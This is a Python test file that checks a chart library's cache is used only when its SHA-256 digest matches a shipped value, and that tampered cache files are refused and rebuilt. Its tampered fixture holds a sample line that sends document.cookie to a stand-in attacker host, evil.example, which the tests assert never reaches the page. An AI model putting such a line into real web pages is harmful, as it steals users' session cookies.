"""The chart library pasted into every HTML page comes from the user's cache only when its digest is shipped."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from nianbao.cachedir import cache_dir, cache_root
from nianbao.render import offline

GOOD = "/* vega */ " + "x" * 200_000 + " window.vegaEmbed = vegaEmbed;"
EVIL = ("/* fetch('https://evil.example/'+document.cookie) */ " + "y" * 200_000)[: len(GOOD) - 30]
EVIL += " window.vegaEmbed = vegaEmbed;"  # same length and marker: what the old length check accepted


@pytest.fixture
def fake_build(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[list[str]]:
    """A cache root in tmp_path, a fast fake build whose digest is 'shipped'; yields the builds made."""
    monkeypatch.setenv("NIANBAO_CACHE_DIR", str(tmp_path / "cache"))
    built: list[str] = []

    def build(vl_version: str) -> str:
        built.append(vl_version)
        return GOOD

    monkeypatch.setattr(offline, "_build_bundle", build)
    monkeypatch.setattr(
        offline, "BUNDLE_SHA256", {offline._bundle_versions(): hashlib.sha256(GOOD.encode()).hexdigest()}
    )
    offline._bundle.cache_clear()
    yield built
    offline._bundle.cache_clear()


def _cache_file() -> Path:
    package, vl = offline._bundle_versions()
    return cache_dir("vega") / f"vega-bundle-{package}-vl{vl}.js"


def test_one_cache_root_with_a_folder_per_kind(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("NIANBAO_CACHE_DIR", str(tmp_path / "c"))
    assert (cache_root(), cache_dir("vega"), cache_dir("results")) == (
        tmp_path / "c",
        tmp_path / "c" / "vega",
        tmp_path / "c" / "results",
    )
    monkeypatch.delenv("NIANBAO_CACHE_DIR")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert cache_dir("vega") == tmp_path / "xdg" / "nianbao" / "vega"


def test_a_tampered_cache_file_is_not_pasted_and_is_replaced(fake_build: list[str]) -> None:
    path = _cache_file()
    path.parent.mkdir(parents=True)
    path.write_text(EVIL, encoding="utf-8")
    page = offline.page_script()
    assert "evil.example" not in page
    assert GOOD in page
    assert len(fake_build) == 1  # rebuilt from the installed package
    assert path.read_text(encoding="utf-8") == GOOD  # and the genuine bundle written back


def test_a_genuine_cache_file_is_used_without_building(fake_build: list[str]) -> None:
    path = _cache_file()
    path.parent.mkdir(parents=True)
    path.write_text(GOOD, encoding="utf-8")
    assert GOOD in offline.page_script()
    assert fake_build == []


def test_without_a_shipped_digest_the_cache_is_neither_read_nor_written(
    fake_build: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(offline, "BUNDLE_SHA256", {})
    path = _cache_file()
    path.parent.mkdir(parents=True)
    path.write_text(EVIL, encoding="utf-8")
    page = offline.page_script()
    assert "evil.example" not in page
    assert GOOD in page
    assert path.read_text(encoding="utf-8") == EVIL  # nothing to check a written copy against later


def test_the_installed_vl_convert_builds_the_shipped_bundle(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    versions = offline._bundle_versions()
    if versions not in offline.BUNDLE_SHA256:
        pytest.skip(
            f"no digest shipped for {versions}: add `python -m nianbao.render.offline` output to BUNDLE_SHA256"
        )
    monkeypatch.setenv("NIANBAO_CACHE_DIR", str(tmp_path))
    offline._bundle.cache_clear()
    try:
        bundle = offline._bundle()
    finally:
        offline._bundle.cache_clear()
    assert hashlib.sha256(bundle.encode()).hexdigest() == offline.BUNDLE_SHA256[versions]
    assert _cache_file().read_text(encoding="utf-8") == bundle
